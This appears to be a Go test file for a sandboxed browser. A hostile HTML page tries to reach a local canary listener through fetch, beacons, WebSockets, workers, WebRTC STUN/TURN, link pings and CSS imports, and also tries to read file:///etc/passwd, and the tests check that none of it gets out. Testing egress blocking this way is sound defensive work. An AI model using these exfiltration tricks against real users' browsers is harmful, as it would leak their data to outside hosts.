package browser_test

import (
	"context"
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"oddtick/observe/browser"

	"github.com/stretchr/testify/require"
)

// canary hears whatever comes to one port of this machine, by TCP and by UDP.
type canary struct {
	address string
	heard   atomic.Int64
}

func newCanary(t *testing.T) *canary {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { l.Close() })
	c := &canary{address: l.Addr().String()}
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			c.heard.Add(1)
			conn.Close()
		}
	}()
	packets, err := net.ListenPacket("udp", c.address)
	require.NoError(t, err)
	t.Cleanup(func() { packets.Close() })
	go func() {
		for {
			if _, _, err := packets.ReadFrom(make([]byte, 2048)); err != nil {
				return
			}
			c.heard.Add(1)
		}
	}()
	return c
}

const hostilePage = `<!doctype html><title>Hostile</title><link rel="stylesheet" href="http://CANARY/a.css"><link rel="preconnect" href="http://CANARY"><link rel="prefetch" href="http://CANARY/p">
<style>p { background: url(http://CANARY/b.png) } @import url(http://CANARY/c.css);</style><p>Hello <img src="http://CANARY/d.png"><iframe src="http://CANARY/e"></iframe><object data="http://CANARY/f"></object>
<video src="http://CANARY/g"></video><a id="ping" href="/" ping="http://CANARY/h" target="other">on</a><form method="post"><input name="name"></form>
<script>
const at = "http://CANARY";
const tries = [
  () => fetch(at + "/fetch", { mode: "no-cors" }), () => navigator.sendBeacon(at + "/beacon", "x"), () => new WebSocket("ws://CANARY/socket"), () => new EventSource(at + "/events"),
  () => { const x = new XMLHttpRequest(); x.open("GET", at + "/xhr"); x.send() }, () => window.open(at + "/window"), () => new Worker(URL.createObjectURL(new Blob(["fetch('" + at + "/worker', {mode: 'no-cors'})"]))),
  () => new WebTransport("https://CANARY/transport"), () => fetch("file:///etc/passwd"), () => document.getElementById("ping").click(),
  () => { const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:CANARY" }, { urls: "turn:CANARY?transport=tcp", username: "a", credential: "b" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)) },
];
for (const one of tries) { try { const p = one(); if (p && p.catch) p.catch(() => {}) } catch {} }
</script>`

// TestAttackAPageThatAsksOthers: whatever a page tries, nothing reaches a host that is not allowed.
func TestAttackAPageThatAsksOthers(t *testing.T) {
	t.Parallel()
	c := newCanary(t)
	h := newHarbour(t, strings.ReplaceAll(hostilePage, "CANARY", c.address))
	b := startOn(t, h.URL)
	v, err := b.NewVisitor(t.Context())
	require.NoError(t, err)
	t.Cleanup(v.Close)
	_, err = v.Open(t.Context(), "/", formOf("name"))
	require.NoError(t, err)
	time.Sleep(3 * time.Second)
	require.Zero(t, c.heard.Load())
	conn, err := net.Dial("tcp", c.address) // it does hear
	require.NoError(t, err)
	conn.Close()
	require.Eventually(t, func() bool { return c.heard.Load() == 1 }, 5*time.Second, 10*time.Millisecond)
}

// TestAttackANameThatLeadsElsewhereLater: the browser's connections are made by whoever knows where a name led at first.
func TestAttackANameThatLeadsElsewhereLater(t *testing.T) {
	t.Parallel()
	h := newHarbour(t, ferryPage)
	var dialled atomic.Int64
	b, err := browser.Start(browser.Options{
		Address: "http://site.test", Allowed: func(host string) bool { return host == "site.test" },
		Dial: func(ctx context.Context, network, address string) (net.Conn, error) {
			if address != "site.test:80" {
				return nil, fmt.Errorf("asked for %s", address)
			}
			dialled.Add(1)
			return (&net.Dialer{}).DialContext(ctx, network, strings.TrimPrefix(h.URL, "http://"))
		},
	})
	require.NoError(t, err)
	t.Cleanup(b.Close)
	visitor(t, b, "/", "name")
	require.Positive(t, dialled.Load())
}
